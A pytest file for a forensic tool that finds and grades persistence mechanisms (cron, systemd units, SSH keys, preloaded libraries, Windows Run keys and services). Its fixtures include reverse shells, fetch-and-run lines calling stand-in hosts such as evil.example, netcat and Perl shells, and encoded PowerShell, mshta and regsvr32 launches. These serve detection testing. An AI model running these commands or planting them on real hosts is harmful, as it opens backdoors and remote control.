"""The persistence table and its judge: what is a finding, how grave, and that its target loses nothing."""

from __future__ import annotations

import re
from collections import Counter
from dataclasses import asdict
from pathlib import Path

import pytest

from commodore import catalogue
from commodore.detection import Detection
from commodore.engine import reading
from commodore.evidence import Evidence
from commodore.host import Host
from commodore.persistence import Members, complete, completed, places
from commodore.persistence.data import parts, traits
from commodore.persistence.judges import web_page
from commodore.persistence.suspicion import of_command, of_file
from commodore.persistence.table import row_from, rows
from scout.bounded import pattern_error
from tests.commodore.views import judged
from tests.conftest import need

DETECTION = Detection.load()
ARTEFACTS = catalogue.artefacts()
DECLARED = {name: known.artefact for name, known in (ARTEFACTS | catalogue.derivations()).items()}
LINUX = Host(
    "c",
    name="h",
    os="linux",
    users={"0": "root", "33": "www-data", "1000": "agnes"},
    profiles={"root": "/root", "www-data": "/var/www", "agnes": "/home/agnes"},
)
WINDOWS = Host("c", name="h", os="windows", system_root="C:\\Windows")


def findings(path: str, content: bytes, dataset: str, host: Host = LINUX, companions: dict | None = None) -> list[dict]:
    hits: list = []
    evidence = Evidence(path, content, collection="c", member=1, companions=companions)

    def take(_: str, records: list[dict], __: object) -> int:
        hits.extend(judged(DETECTION, records, host))
        return 0

    for _, outcome in reading.read([ARTEFACTS[dataset]], evidence, host, take, lambda _: None):
        assert not [p for p in outcome.problems if "Error" in p.reason], outcome.problems
    return list(DETECTION.findings(hits))


def severity(path: str, content: str, dataset: str) -> str:
    """The gravest, `` where nothing is said."""
    return max((f for f in findings(path, content.encode(), dataset)), key=lambda f: f["event.severity"], default={"escadre.severity": ""})[
        "escadre.severity"
    ]


# --- the table


def test_the_table_has_the_rows_of_the_first_cut_and_each_is_whole() -> None:
    table = {m.id: m for m in rows()}
    assert set(table) >= {"W001", "W008", "W012", "W013", "W050", "W051", "W100", "W150", "L001", "L003", "L010", "L050", "L062"}
    for m in table.values():
        assert m.dataset in DECLARED
        assert m.rule.techniques and m.rule.attack_version and m.expected and m.rule.reference
    assert table["L062"].attack == ("T1098.004",) and table["W012"].remove == "XE" and table["L010"].kind == "systemd-unit"


def test_rows_test_only_fields_that_their_dataset_has() -> None:
    for m in rows():
        declared = set(DECLARED[m.dataset].fields)
        assert set(m.places) <= declared, m.id


def _document(**changed: object) -> dict:
    from commodore.persistence.data import documents

    return dict(documents("rows"))["W012.yaml"] | changed


@pytest.mark.parametrize(
    ("changed", "words"),
    [
        ({"options": {"machine": ["a"]}}, "W012.yaml: options must be machine, user"),
        ({"options": {"machine": ["a"], "user": [], "more": []}}, "W012.yaml: options must be machine, user"),
        ({"options": {"machine": "a", "user": []}}, "W012.yaml: option `machine` must be a list of texts"),
        ({"judge": "nobody"}, "W012.yaml: judge `nobody` is unknown: account, assignments, "),
        ({"remove": "XE+QQ"}, "W012.yaml: removal `QQ` is unknown"),
        ({"severity": "grave"}, "W012.yaml: severity"),
        ({"extra": 1}, "W012.yaml: `extra` is missing or unknown"),
    ],
)
def test_a_row_is_checked_against_its_judge_when_it_is_loaded(changed: dict, words: str) -> None:
    with pytest.raises(ValueError, match=re.escape(words)):
        row_from("W012.yaml", _document(**changed))


def test_the_index_finds_the_rows_that_a_test_of_every_row_finds() -> None:
    from dataclasses import replace

    from commodore.persistence.index import RowIndex
    from commodore.persistence.table import PersistenceRow

    def row(number: int, **places: list[str]) -> PersistenceRow:
        document = dict(_document(where={k.replace("_", "."): v for k, v in places.items()}), id=f"W{number}")
        return replace(row_from(f"W{number}.yaml", document), dataset="d")

    table = [row(200 + n, registry_key=[f"*\\Place{n}\\Run"]) for n in range(60)]
    table += [row(300), row(301, registry_key=["*"]), row(302, registry_key=["*\\a", "*\\ab*"]), row(303, registry_key=["?b"])]
    table += [row(304, registry_key=["*\\run"], registry_value=["Long name of a value"]), row(305, registry_key=["ÄÖ*"])]
    index = RowIndex(table)
    keys = ["x\\place7\\run", "X\\PLACE59\\RUN", "x\\a", "x\\abc", "cb", "äöü", "", "x\\place7\\run\\y", "\udcff\\a"]
    for key in keys:
        for value in ("", "long NAME of a value"):
            record = {"registry.key": key, "registry.value": value}
            assert [r.id for r in index.concerned("d", record)] == [r.id for r in table if r.concerns(record)], record
    assert [r.id for r in index.concerned("d", {"registry.key": 7})] == ["W300"] and not list(index.concerned("e", {"registry.key": "a"}))


def test_scout_collects_what_each_row_needs() -> None:
    from scout.targets import load

    collected = {dataset for target in load() for dataset in target.reads} & ARTEFACTS.keys()
    read = {dataset for row in rows() for dataset in (DECLARED[row.dataset].datasets or (row.dataset,))}
    assert read <= collected


NOT_IN_TRIAGE = {
    "L040": "`.netrc` and `.kube/config` hold passwords and tokens: a mounted disk shows them",
    "L109": "images may be as large as a disk: the list of files names those that no package has",
    "L080": "the pages of a web application may be too many: triage takes scripts below web roots by extension, up to 256 MB",
    "W171": "Python may be installed anywhere: triage looks in the usual folders",
    "W187": "the pages of a web application are too many: triage takes programs and scripts by their kind",
}
"""Rows that the triage profile does not serve in full, with what serves instead."""


def test_triage_takes_every_file_that_a_row_reads() -> None:
    from commodore.persistence.places import HOME, file_places
    from scout.targets import load
    from scout.targets.patterns import braces, path_regex

    homes = {"linux": "home/agnes/", "windows": "Users/x/"}
    taken = {
        os: [
            path_regex(pattern.replace(HOME, homes[os]).replace("%SystemRoot%", "Windows"), fold=os == "windows")
            for target in load()
            if target.os == os and target.priority == "T" and not target.rule
            for pattern in target.paths
        ]
        for os in homes
    }
    missing: dict[str, list[str]] = {}
    for place in file_places():
        for pattern in (alternative for given in place.patterns for alternative in braces(given)):
            sample = pattern.replace(HOME, homes[place.os]).replace("**/", "a/").replace("**", "a/b").replace("*", "x").replace("?", "1")
            if not any(regex.fullmatch(sample) for regex in taken[place.os]):
                missing.setdefault(place.row, []).append(sample)
    assert missing.keys() == NOT_IN_TRIAGE.keys(), missing


def test_every_pattern_of_a_row_is_one_that_re2_reads() -> None:
    """They are compiled when a line is judged: a wrong one would cost the inventory of a host."""
    seen = 0
    listed = [(name, row["options"]) for name, _, row in parts() if row["judge"] == "line_traits"]
    for name, options in [*listed, ("web_shells.yaml", asdict(web_page.traits()))]:
        for text in (text for texts in options.values() for text in texts):
            words, _, pattern = text.partition(": ")
            assert words and pattern and not pattern_error(f"(?i){pattern}"), f"{name}: {text}"
            seen += 1
    assert seen > 50


def test_patterns_are_quick_on_hostile_text() -> None:
    for os in ("windows", "linux"):
        for text in (
            "powershell " + "-e " * 2700,
            "^a" * 4000,
            "curl " + "| " * 4000,
            "a\\" * 4000,
            "/." * 4000,
            "%a:~" * 2000,
            "base64 -d |" * 700,
            "wget -o x " * 800,
            "cmd /c " * 1200,
            " " * 8000,
            "cmd /c " * 1200,
        ):
            of_command(text, os)
            of_file(text, os)
    assert traits()["interpreters"]["linux"]


# --- rows on other datasets


def mft(path: str, **more: object) -> dict:
    return {"event.dataset": "mft", "escadre.id": "r", "file.path": path, "file.name": path.rsplit("\\", 1)[-1], **more}


@pytest.mark.parametrize(
    ("path", "row"),
    [
        (r"C:\Windows\Setup\Scripts\ErrorHandler.cmd", "W042"),
        (r"C:\Windows\Tasks\At1.job", "W105"),
        (r"C:\Users\a\AppData\Local\Microsoft\Windows\PowerShell\ScheduledJobs\x\ScheduledJobDefinition.xml", "W106"),
        (r"C:\Program.exe", "W161"),
        (r"C:\Windows\System32\WptsExtensions.dll", "W162"),
        (r"D:\autorun.inf", "W193"),
        (r"C:\Windows\System32\CodeIntegrity\SIPolicy.p7b", "W047"),
        (r"C:\Users\a\AppData\Local\Microsoft\Power Automate Desktop\Console\Scripts\x.txt", "W144"),
        (r"C:\Program Files\Microsoft Office\Office16\ai.exe", "W185"),
        (r"C:\Windows\System32\CodeIntegrity\CiPolicies\Active\{0}.cip", ""),
        (r"C:\Users\a\AppData\Local\Microsoft\Power BI\Scripts\x.txt", ""),
        (r"C:\Program Files\Microsoft Office\root\Office16\ai.exe", ""),
        (r"C:\Windows\Tasks\SCHEDLGU.TXT", ""),
        (r"C:\Program Files\Program.exe", ""),
        (r"C:\Windows\System32\winhttp.dll", ""),
        (r"C:\Users\a\autorun.inf", ""),
        (r"C:\Windows\Panther\Setup\Scripts\x.cmd", ""),
    ],
)
def test_a_file_that_should_not_be_there_is_found_in_the_mft(path: str, row: str) -> None:
    assert [h.rule for h in judged(DETECTION, [mft(path)], WINDOWS)] == ([row] if row else [])
    assert not judged(DETECTION, [mft(path) | {"escadre.state": "deleted"}], WINDOWS)


@pytest.mark.parametrize(
    ("more", "severity"),
    [
        ({"process.executable": "/usr/sbin/nginx", "process.name": "nginx"}, ""),
        ({"process.executable": "/usr/sbin/nginx", "process.name": "nginx", "escadre.process.deleted": True}, "low"),
        ({"process.executable": "/home/agnes/x", "process.name": "x", "escadre.process.deleted": True}, "high"),
        ({"process.executable": "/memfd:a", "process.name": "a", "escadre.process.memfd": True, "escadre.process.deleted": True}, "high"),
        ({"process.executable": "/dev/shm/a", "process.name": "a"}, "high"),
        ({"process.executable": "/usr/bin/x", "process.name": "kworker/0:1", "process.command_line": "[kworker/0:1]"}, "high"),
        ({"process.name": "kworker/0:1", "process.command_line": ""}, ""),
        (
            {"process.executable": "/usr/bin/bash", "process.name": "bash", "process.command_line": "bash -i >& /dev/tcp/192.0.2.1/4 0>&1"},
            "high",
        ),
    ],
)
def test_running_programs_are_judged(more: dict, severity: str) -> None:
    record = {"event.dataset": "live_processes", "escadre.id": "r", "process.pid": 7, "user.name": "root", **more}
    assert [h.severity for h in judged(DETECTION, [record], LINUX)] == ([severity] if severity else [])


def test_the_finding_of_a_running_program_names_exactly_one_process() -> None:
    start, image = "2026-11-29T10:00:00.12Z", "ab" * 32
    record = {
        "event.dataset": "live_processes",
        "escadre.id": "r",
        "process.pid": 7,
        "process.name": "x",
        "process.start": start,
        "process.executable": "/memfd:x",
        "process.hash.sha256": image,
        "process.command_line": "./x -d",
        "escadre.process.memfd": True,
    }
    (hit,) = judged(DETECTION, [record], LINUX)
    wanted = {"kind": "process", "remove": "KP", "path": "/memfd:x", "pid": 7, "started": start, "image_sha256": image, "data": "./x -d"}
    assert wanted.items() <= hit.target.items()


# --- severity


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        ("* * * * * root /tmp/x", "high"),
        ("@reboot root /dev/shm/.a/b", "high"),
        ("* * * * * root /usr/local/bin/.hidden", "high"),
        ("1 1 * * * root wget -q -O- http://198.51.100.7/a|bash", "high"),
        ("1 1 * * * root bash -c 'bash -i >& /dev/tcp/198.51.100.7/443 0>&1'", "high"),
        ("1 1 * * * root nc -e /bin/sh 198.51.100.7 9", "high"),
        ("1 1 * * * root /home/agnes/x.sh", "medium"),
        ("1 1 * * * www-data php /var/www/site/cron.php", ""),
        ("1 1 * * * root php /var/www/site/cron.php", "medium"),
        ("1 1 * * * agnes /home/agnes/x.sh", ""),
        ("1 1 * * * root /usr/local/sbin/backup", ""),
        ("1 1 * * * root test -x /usr/bin/x && /usr/bin/x", ""),
        ("1 1 * * * root find /tmp -mtime +7 -delete", ""),
        ("1 1 * * * root cd / && run-parts /etc/cron.hourly", ""),
        ("1 1 * * * root curl -fsS https://status.example/ping", ""),
        ("1 1 * * * root /usr/local/bin/a #\r1 1 * * * root /usr/bin/true", "high"),
        ("1 1 * * * root tar czf /tmp/backup.tgz /etc", ""),
        ('1 1 * * * root sh -c "$(curl -fsSL https://evil.example/x)"', "high"),
        ("1 1 * * * root bash <(curl -s https://evil.example/x)", "high"),
        ("1 1 * * * root eval `wget -qO- https://evil.example/x`", "high"),
        ("1 1 * * * root curl -s https://evil.example/x | python3", "high"),
        ("1 1 * * * root perl -MIO::Socket -e '$c=IO::Socket::INET->new(\"198.51.100.7:1\")'", "high"),
        ("1 1 * * * root cd /tmp && ./x", "high"),
        ("1 1 * * * root cd /tmp && rm -f x", ""),
        ("1 1 * * * root PATH=/tmp:$PATH backup", "high"),
        ("PATH=/usr/bin:/dev/shm\n1 1 * * * root backup", "high"),
        ("~ 1 * * * root /tmp/x", "high"),
        ("1 1 * * * root python3 /opt/app/run.py -c socket.conf", ""),
        ("1 1 * * * root python3 -c \"exec(__import__('base64').b64decode('eA=='))\"", "high"),
    ],
)
def test_cron_entries_are_judged_by_what_they_run(line: str, expected: str) -> None:
    assert severity("/etc/cron.d/job", line + "\n", "cron") == expected


@pytest.mark.parametrize(
    ("path", "text", "expected"),
    [
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/var/tmp/a\n", "high"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=-+/bin/sh -c '/opt/.x/a'\n", "high"),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/opt/a/bin/a --tmp /tmp\n", ""),
        ("/etc/systemd/system/a.service", "[Service]\nExecStart=/home/agnes/a\n", "medium"),
        ("/etc/systemd/system/a.service", "[Service]\nUser=agnes\nExecStart=/home/agnes/a\n", ""),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStartPost=/dev/shm/a\n", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironment=LD_PRELOAD=/usr/lib/x.so\n", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironment=A=b \\\n  LD_AUDIT=/opt/x.so\n", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStart=\nExecStartPre=-/tmp/a\n", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nExecStart=/tmp/a\nExecStart=\n", ""),  # the list was reset
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironmentFile=-/dev/shm/e\n", "high"),
        ("/etc/systemd/system/ssh.service.d/x.conf", "[Service]\nEnvironment=LD_LIBRARY_PATH=/opt/app/lib\nNice=5\n", ""),
        ("/etc/systemd/system.control/ssh.service.d/x.conf", "[Service]\nExecReload=/dev/shm/a\n", "high"),
        ("/run/systemd/transient/ssh.service.d/x.conf", "[Service]\nExecStopPost=/dev/shm/a\n", "high"),
        ("/etc/systemd/user/pulse.service.d/x.conf", "[Service]\nExecStart=/dev/shm/a\n", "high"),
        ("/home/agnes/.config/systemd/user/x.service.d/x.conf", "[Service]\nExecStart=/tmp/.h/x\n", "high"),
        ("/usr/lib/systemd/system/a.service", "[Service]\nExecStart=/usr/sbin/a\n", ""),
        ("/etc/systemd/system/.a.service", "[Service]\nExecStart=/usr/sbin/a\n", "high"),
        ("/etc/systemd/system/a.timer", "[Timer]\nOnCalendar=daily\n", ""),
    ],
)
def test_units_are_judged_by_all_that_they_run(path: str, text: str, expected: str) -> None:
    assert severity(path, text, "systemd_units") == expected


KEY = "ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIA" + "A" * 42


@pytest.mark.parametrize(
    ("path", "options", "expected"),
    [
        ("/root/.ssh/authorized_keys", "", "high"),
        ("/root/.ssh/authorized_keys", 'from="192.0.2.1" ', "low"),
        ("/root/.ssh/authorized_keys", 'command="borg serve --append-only" ', "low"),
        ("/root/.ssh/authorized_keys", 'from="192.0.2.1",command="curl http://198.51.100.7|sh" ', "high"),
        ("/var/www/.ssh/authorized_keys", "", "high"),
        ("/home/agnes/.ssh/authorized_keys", "", "medium"),
        ("/home/agnes/.ssh/authorized_keys", 'environment="LD_PRELOAD=/tmp/x.so" ', "high"),
    ],
)
def test_keys_are_judged_by_whom_they_open_and_how_they_are_bound(path: str, options: str, expected: str) -> None:
    assert severity(path, f"{options}{KEY} me@laptop\n", "authorized_keys") == expected


def test_preloaded_libraries_are_never_expected_and_hidden_ones_are_critical() -> None:
    assert severity("/etc/ld.so.preload", "/usr/local/lib/libx.so\n", "ld_so_preload") == "high"
    assert severity("/etc/ld.so.preload", "/dev/shm/.x.so\n", "ld_so_preload") == "critical"
    assert severity("/etc/ld.so.preload", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n", "ld_so_preload") == "medium"
    assert severity("/etc/ld.so.preload", "# nothing\n", "ld_so_preload") == ""


@pytest.mark.parametrize(
    ("line", "expected"),
    [
        (r"C:\Users\a\AppData\Local\Temp\x.exe", "high"),
        (r"%TEMP%\x.exe", "high"),
        (r"C:\ProgramData\x.exe", "high"),
        (r"C:\ProgramData\Vendor\x.exe", ""),
        (r'"C:\Program Files\A B\x.exe" -temp', ""),
        (r"C:\Users\a\AppData\Local\Vendor\Update.exe", ""),
        (r"%APPDATA%\x.exe", "high"),
        (r"rundll32.exe C:\Users\Public\a.dll,Go", "high"),
        (r"rundll32.exe shell32.dll,Control_RunDLL", ""),
        (r"mshta http://198.51.100.7/a.hta", "high"),
        (r"C:\Windows\System32\svchost.exe -k x", ""),
        (r"C:\Windows\Help\svchost.exe", "high"),
        (r"C:\Program Files\svchost.exe", "high"),
        (r"powershell -nop -w hidden -c x", "high"),
        (r"powershell.exe -File C:\Program Files\X\a.ps1", ""),
        (r"\\srv\share\x.exe", "high"),
        (r"C:\dir\invoice.pdf.exe", "high"),
        (r"cmd /c start C:\Users\Public\x.bat", "high"),
        (r"wscript.exe C:\Users\a\x.vbs", "high"),
        (r"regsvr32 /s /u /i:http://198.51.100.7/a.sct scrobj.dll", "high"),
        (r"%windir%\system32\SecurityHealthSystray.exe", ""),
        ("C:\\dir\\gpj.\u202eexe.scr", "high"),
        (r"C:\Users\a\file.txt:evil.exe", "high"),
        (r"C:\Program Files (x86)\Microsoft\EdgeUpdate\MicrosoftEdgeUpdate.exe /c", ""),
        (r"C:\Windows\System32\rundll32.exe C:\Windows\System32\Windows.StateRepositoryClient.dll,x", ""),
        (r"C:\tools\x.exe", ""),
        (r"powershell.exe -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "high"),
        (r"powershell -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA", "high"),
        (r"C:\Program Files\App\..\..\Users\Public\x.exe", "high"),
        (r"C:\Windows\System32\..\Temp\x.exe", "high"),
        (r"explorer.exe C:\Users\Public\x.lnk", "medium"),
        (r'wmic process call create "C:\Users\Public\x.exe"', "high"),
        (r'"C:\Program Files\App\app.exe" --log C:\Windows\Temp\app.log', ""),
    ],
)
def test_windows_commands_are_judged_by_place_and_manner(line: str, expected: str) -> None:
    key = "Software\\Microsoft\\Windows\\CurrentVersion\\Run"
    record = {
        "event.dataset": "run_keys",
        "escadre.id": "r",
        "escadre.source": "C:\\Users\\a\\NTUSER.DAT",
        "registry.hive": "HKU\\a",
        "registry.key": key,
        "registry.value": "v",
        "registry.path": f"HKU\\a\\{key}\\v",
        "registry.data.strings": [line],
        "registry.data.type": "REG_SZ",
        "process.command_line": line,
        "user.name": "a",
    }
    assert set(record) <= {*ARTEFACTS["run_keys"].artefact.fields, "event.dataset", "escadre.id", "escadre.source"}
    found = judged(DETECTION, [record], WINDOWS)
    assert [h.severity for h in found] == ([expected] if expected else [])
    assert all(h.target and h.target["data"] == [line] and h.target["name"] == "v" for h in found)


SYSTEM_KEY = "ControlSet001\\Services\\s"


def service(image: str, dll: str = "") -> list[tuple[str, dict]]:
    """(severity, target) of a service with this program and library."""
    record = {
        "event.dataset": "services",
        "escadre.id": "r",
        "escadre.source": "C:\\Windows\\System32\\config\\SYSTEM",
        "service.name": "s",
        "registry.hive": "HKLM\\SYSTEM",
        "registry.key": SYSTEM_KEY,
        "registry.path": f"HKLM\\SYSTEM\\{SYSTEM_KEY}",
        "process.command_line": image,
        "escadre.service.start": "auto",
        "escadre.service.values": {"ImagePath.data_type": "REG_EXPAND_SZ", "ImagePath.data_bytes": "QQAAAA=="},
    }
    if dll:
        record["escadre.service.dll"] = dll
        place = f"HKLM\\SYSTEM\\{SYSTEM_KEY}\\Parameters"
        record["escadre.service.values"] |= {"ServiceDll.data_type": "REG_SZ", "ServiceDll.value_key": place}
    assert set(record) <= {*ARTEFACTS["services"].artefact.fields, "event.dataset", "escadre.id", "escadre.source"}
    return [(h.severity, h.target or {}) for h in judged(DETECTION, [record], WINDOWS)]


@pytest.mark.parametrize(
    ("image", "dll", "expected"),
    [
        (r"%SystemRoot%\PSEXESVC.exe", "", "medium"),
        (r"C:\Windows\abcdEFgh.exe", "", "medium"),
        (r"C:\Windows\Sysmon64.exe", "", ""),
        (r"%SystemRoot%\system32\spoolsv.exe", "", ""),
        (r"cmd /c tscon 2 /dest:rdp-tcp#5", "", "medium"),
        (r"Temp\f.sys", "", "high"),
        (r"System32\drivers\..\..\Temp\g.sys", "", "high"),
        (r"system32\drivers\afd.sys", "", ""),
        (r"%SystemRoot%\System32\svchost.exe -k x", r"%SystemRoot%\System32\..\Temp\s.dll", "high"),
        (r"%SystemRoot%\System32\svchost.exe -k x", "evil.dll", "medium"),
        (r"%SystemRoot%\System32\svchost.exe -k x", "winhttp.dll", ""),
    ],
)
def test_services_are_judged_by_program_and_library(image: str, dll: str, expected: str) -> None:
    assert [severity for severity, _ in service(image, dll)] == ([expected] if expected else [])


def test_the_target_of_a_service_has_type_and_bytes_of_the_value_and_its_key() -> None:
    ((_, target),) = service(r"C:\Users\Public\s.exe")
    assert (target["value"], target["data_type"], target["data_bytes"]) == ("ImagePath", "REG_EXPAND_SZ", "QQAAAA==")
    ((_, target),) = service(r"%SystemRoot%\System32\svchost.exe -k x", r"C:\Users\Public\s.dll")
    assert (target["value"], target["data_type"], target["value_key"]) == (
        "ServiceDll", "REG_SZ", f"HKLM\\SYSTEM\\{SYSTEM_KEY}\\Parameters",
    )  # fmt: skip


@pytest.mark.parametrize(("hive", "software", "found"), [("?\\SOFTWARE.bak", "", 0), ("?\\NTUSER.bak", "Software\\", 1)])
def test_a_renamed_hive_is_known_as_machine_or_user_by_its_keys(hive: str, software: str, found: int) -> None:
    key = f"{software}Microsoft\\Windows NT\\CurrentVersion\\Winlogon"
    record = {
        "event.dataset": "winlogon",
        "escadre.id": "r",
        "registry.hive": hive,
        "registry.key": key,
        "registry.value": "Userinit",
        "registry.path": f"{hive}\\{key}\\Userinit",
        "registry.data.strings": ["C:\\Windows\\system32\\userinit.exe,"],
        "process.command_line": "C:\\Windows\\system32\\userinit.exe,",
    }
    assert len(judged(DETECTION, [record], WINDOWS)) == found


@pytest.mark.parametrize(
    ("path", "link", "expected"),
    [
        ("/etc/systemd/system/e.service", "/dev/shm/e.service", ("L010", "high", "systemd-unit")),
        ("/etc/systemd/system/e.service", "../../../var/tmp/e.service", ("L010", "high", "systemd-unit")),
        ("/etc/systemd/system/e.service", "/home/a/e.service", ("L010", "medium", "systemd-unit")),
        ("/etc/systemd/system/e.service", "/dev/null", None),
        ("/etc/systemd/system/sshd.service", "/lib/systemd/system/ssh.service", None),
        ("/etc/systemd/system/multi-user.target.wants/e.service", "/dev/shm/e.service", None),
        ("/etc/cron.d/c", "/tmp/c", ("L001", "high", "file")),
        ("/var/spool/cron/crontabs/a", "/tmp/c", ("L003", "high", "file")),
        ("/etc/ld.so.preload", "/tmp/p", ("L050", "high", "file")),
        ("/root/.ssh/authorized_keys", "/dev/shm/k", ("L062", "high", "file")),
        ("/etc/resolv.conf", "/tmp/r", None),
    ],
)
def test_a_link_in_the_place_of_a_row_is_judged_by_where_it_leads(path: str, link: str, expected: tuple[str, str, str] | None) -> None:
    lines = [{"member": 1, "path": path, "verdict": "link", "link": link, "mode": "0777", "uid": 0, "gid": 0}]
    hits = DETECTION.of_links(lines, catalogue.matcher().by_path, "c", "h")
    found = list(DETECTION.completed(DETECTION.findings(hits), {"c": Members(lines)}))
    assert [(f["rule.id"], f["escadre.severity"], f["target"]["kind"]) for f in found] == ([expected] if expected else [])
    assert all(f["target"]["path"] == path and f["target"]["data"] == link and f["target"]["file"]["link"] == link for f in found)


STARTUP = "C:\\Users\\a\\AppData\\Roaming\\Microsoft\\Windows\\Start Menu\\Programs\\Startup"


@pytest.mark.parametrize(
    ("name", "content", "expected"),
    [
        ("a.url", b"[InternetShortcut]\r\nURL=file:///C:/Users/Public/x.exe\r\n", "high"),
        ("a.url", b"[InternetShortcut]\r\nURL=file:///C:/Program%20Files/App/x.exe\r\n", ""),
        ("bill.pdf.lnk", b"", "high"),
        ("a.lnk", b"L\0\0\0", "low"),
        ("a.exe", b"MZ", "high"),
        ("desktop.ini", b"", ""),
    ],
)
def test_startup_files_are_judged_by_their_kind_and_shortcuts_by_what_they_open(name: str, content: bytes, expected: str) -> None:
    found = findings(f"{STARTUP}\\{name}", content, "startup_folder", WINDOWS)
    assert [f["escadre.severity"] for f in found] == ([expected] if expected else [])


# --- noise


def test_the_ordinary_hives_of_the_corpus_have_one_grave_entry_and_it_was_planted(corpus: Path) -> None:
    import lzma

    grave, records = [], Counter()
    for file in sorted(p for p in (corpus / "hives").rglob("*") if p.is_file()):
        raw = file.read_bytes()
        raw = lzma.decompress(raw) if file.suffix == ".xz" else raw
        if raw[:4] != b"regf" or "LOG" in file.name.upper():
            continue
        name = next((n for n in ("SYSTEM", "SOFTWARE", "NTUSER") if n in file.name.upper()), "")
        path = "C:\\Users\\agnes\\NTUSER.DAT" if name in ("NTUSER", "") else f"C:\\Windows\\System32\\config\\{name}"
        for dataset in ("run_keys", "winlogon", "services", "ifeo"):
            records[dataset] += 1
            grave += [(file.name, f["message"]) for f in findings(path, raw, dataset, WINDOWS) if f["event.severity"] >= 4]
    assert [name for name, _ in grave] == ["NTUSER_modified.DAT.xz"]
    assert "not_a_malware" in grave[0][1]


def test_this_debian_root_has_nothing_grave() -> None:
    need(Path("/etc/debian_version").exists() and Path("/usr/lib/systemd/systemd").exists(), "a Debian root with systemd")
    matcher, seen = catalogue.ArtefactMatcher(ARTEFACTS), Counter()
    for base in ("/usr/lib/systemd", "/etc/systemd", "/etc/cron.d", "/etc/crontab", "/etc/cron.daily", "/etc/ld.so.preload"):
        files = [Path(base)] if Path(base).is_file() else [p for p in Path(base).rglob("*") if p.is_file() and not p.is_symlink()]
        for file in files:
            for dataset in set(matcher.by_path(file.as_posix()[1:])) & {"cron", "systemd_units", "ld_so_preload"}:
                seen[dataset] += 1
                assert not [f["message"] for f in findings(file.as_posix(), file.read_bytes(), dataset) if f["event.severity"] >= 4]
    assert seen["systemd_units"] > 50


# --- targets


def test_a_line_target_keeps_the_line_as_found() -> None:
    line = "*/5  *\t* * *   root   /tmp/x  # é"
    finding = findings("/etc/cron.d/job", f"A=b\n{line}\n".encode(), "cron")[0]
    target = finding["target"]
    assert (target["mechanism"], target["kind"], target["path"], target["line"], target["line_number"]) == (
        "L001",
        "cron-entry",
        "/etc/cron.d/job",
        line,
        2,
    )
    assert target["payload"] == ["/tmp/x"]
    assert finding["rule.id"] == "L001" and finding["threat.technique.id"] == ["T1053.003"] and finding["escadre.confidence"] == "inferred"


@pytest.mark.parametrize(
    ("folder", "text", "data", "payload", "says"),
    [
        (
            "ssh.service.d",
            "ExecStart=\nExecStart=/var/tmp/.x/sshd -D",
            "/var/tmp/.x/sshd -D",
            ["/var/tmp/.x/sshd"],
            'of unit ssh.service (PATH) runs "/var/tmp/.x/sshd -D"',
        ),
        (
            "cron.service.d",
            'Environment="LD_PRELOAD=/usr/local/lib/a.so:/opt/b.so libc.so.6"',
            "Environment=LD_PRELOAD=/usr/local/lib/a.so:/opt/b.so libc.so.6",
            ["/usr/local/lib/a.so", "/opt/b.so"],
            'of unit cron.service (PATH) sets "Environment=LD_PRELOAD=/usr/local/lib/a.so:/opt/b.so libc.so.6": it puts a library into',
        ),
        (
            "service.d",
            "Environment=LD_AUDIT=/opt/b.so\nExecStartPost=/usr/bin/true",
            "/usr/bin/true",
            ["/opt/b.so"],
            "of every service (PATH) runs /usr/bin/true and sets Environment=LD_AUDIT=/opt/b.so",
        ),
        ("foo-.service.d", "ExecStopPost=/dev/shm/x", "/dev/shm/x", ["/dev/shm/x"], "of every unit foo-*.service (PATH) runs"),
        ("getty@.service.d", "ExecStop=/dev/shm/x", "/dev/shm/x", ["/dev/shm/x"], "of unit getty@.service (PATH) runs"),
    ],
)
def test_the_target_of_a_drop_in_is_its_own_file(folder: str, text: str, data: str, payload: list[str], says: str) -> None:
    """systemd.unit(5): foo.service.d, foo-.service.d for all that begin so, service.d for all services; ld.so(8): lists of libraries."""
    path = f"/etc/systemd/system/{folder}/10-x.conf"
    (finding,) = findings(path, f"[Service]\n{text}\n".encode(), "systemd_units")
    target = finding["target"]
    assert (finding["rule.id"], target["kind"], target["path"], target["drop_in"]) == ("L010", "systemd-unit", path, "10-x.conf")
    assert (target["name"], target["data"], target["payload"]) == (folder.removesuffix(".d"), data, payload)
    assert says.replace("PATH", path) in finding["message"]


def test_a_target_is_completed_from_members_with_links_and_payload() -> None:
    unit_text = b"[Service]\nExecStart=/bin/sh /var/tmp/.x/run.sh\n"
    finding = findings("/etc/systemd/system/a.service", unit_text, "systemd_units")[0]
    members = [
        {
            "path": "/etc/systemd/system/a.service",
            "member": 4,
            "verdict": "taken",
            "sha256": "aa",
            "size": 9,
            "mode": "0644",
            "uid": 0,
            "ino": 7,
            "xattrs": {},
        },
        {"path": "/etc/systemd/system/multi-user.target.wants/a.service", "member": None, "verdict": "link", "link": "../a.service"},
        {"path": "/etc/systemd/system/b.service", "member": None, "verdict": "link", "link": "/etc/systemd/system/a.service"},
        {
            "path": "/etc/systemd/system/other.wants/c.service",
            "member": None,
            "verdict": "link",
            "link": "/usr/lib/systemd/system/c.service",
        },
        {"path": "/var/tmp/.x/run.sh", "member": 5, "verdict": "taken", "sha256": "bb", "size": 3, "mode": "0755"},
    ]
    target = complete(finding["target"], members)
    assert target["payload"] == ["/var/tmp/.x/run.sh"]
    assert target["file"] | {"sha256": "aa", "mode": "0644", "ino": 7} == target["file"]
    assert target["payload_files"] == {"/var/tmp/.x/run.sh": {"sha256": "bb", "size": 3, "mode": "0755", "verdict": "taken", "member": 5}}
    assert target["links"] == ["/etc/systemd/system/b.service", "/etc/systemd/system/multi-user.target.wants/a.service"]
